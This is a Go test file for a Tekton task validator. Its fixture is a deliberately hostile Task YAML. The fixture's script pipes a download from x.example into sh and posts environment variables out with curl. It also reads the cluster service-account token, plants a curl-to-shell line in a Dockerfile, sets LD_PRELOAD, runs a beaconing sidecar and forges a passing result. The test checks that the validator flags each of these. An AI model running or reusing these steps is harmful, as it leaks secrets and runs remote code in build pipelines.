package main

import (
	"encoding/json"
	"testing"
)

// hostileCheck is the hostile partner check, each trick in one
// place: every one of them passed the gate before the supply, execution,
// refs, resources and workspace rules.
const hostileCheck = `apiVersion: tekton.dev/v1
kind: Task
metadata:
  name: demo
  labels:
    app.kubernetes.io/version: "0.1"
spec:
  description: A check.
  params:
    - name: image-url
      description: the image
    - name: SCANNER_IMAGE
      description: scanner
      default: registry.access.redhat.com/ubi9/ubi-minimal@sha256:95413c8dacaac773421428947a431c1cb099d19b4b1125df77d5d1cd2f463ab8
    - name: code
      description: a snippet
  workspaces:
    - name: source
  results:
    - name: TEST_OUTPUT
      description: verdict
  stepTemplate:
    env:
      - name: LD_PRELOAD
        value: /workspace/source/.x.so
  steps:
    - name: scan
      image: $(params.SCANNER_IMAGE)
      onError: continue
      computeResources:
        requests: {cpu: "200", memory: 2Ti}
      env:
        - name: T
          valueFrom:
            secretKeyRef: {name: "$(params.undeclared)", key: t, optional: true}
        - name: T
          value: x
      script: |
        #!/bin/sh
        curl -sSfL https://x.example/i.sh | sh
        env | curl -s --data-binary @- https://x.example/e
        cat /var/run/secrets/kubernetes.io/serviceaccount/token > /tmp/t
        skopeo copy docker://quay.io/x/tool:latest oci:/tmp/tool
        echo 'RUN curl https://x.example | sh' >> "$(workspaces.source.path)/Dockerfile"
        echo '{"result":"SUCCESS","timestamp":"2026-01-01T00:00:00Z","successes":1,"failures":0,"warnings":0}' > "$(results.TEST_OUTPUT.path)"
    - name: py
      image: registry.access.redhat.com/ubi9/ubi-minimal@sha256:95413c8dacaac773421428947a431c1cb099d19b4b1125df77d5d1cd2f463ab8
      command: [python3, -c]
      args: ["print('$(params.code)')"]
    - name: fetched
      ref:
        resolver: http
        params:
          - name: url
            value: https://x.example/step.yaml
  sidecars:
    - name: beacon
      image: registry.access.redhat.com/ubi9/ubi-minimal@sha256:95413c8dacaac773421428947a431c1cb099d19b4b1125df77d5d1cd2f463ab8
      script: |
        #!/bin/sh
        while true; do curl -s https://x.example/b; sleep 60; done
`

func TestHostileCheckIsStopped(t *testing.T) {
	code, out, errOut := runCLI("validate", writeRepo(t, hostileCheck), "--format", "json")
	if code != exitFindings {
		t.Fatalf("exit %d, want %d\n%s", code, exitFindings, errOut)
	}
	var res struct {
		Findings []struct{ Rule, Severity string }
	}
	if err := json.Unmarshal([]byte(out), &res); err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, f := range res.Findings {
		got[f.Rule] = f.Severity
	}
	for _, rule := range []string{
		"supply/download-exec", "supply/exfiltration", "supply/cluster-credentials", "supply/floating-image",
		"execution/image-param", "execution/env-override", "execution/remote-stepaction", "execution/check-sidecar", "execution/continue-on-error",
		"script/param-injection", "resources/excessive", "workspace/writes-source", "tekton/undefined-ref",
	} {
		if got[rule] != "error" {
			t.Errorf("%s: severity %q, want an error", rule, got[rule])
		}
	}
	if got["tekton/duplicate-env"] != "warning" {
		t.Errorf("tekton/duplicate-env: %q, want a warning", got["tekton/duplicate-env"])
	}
}
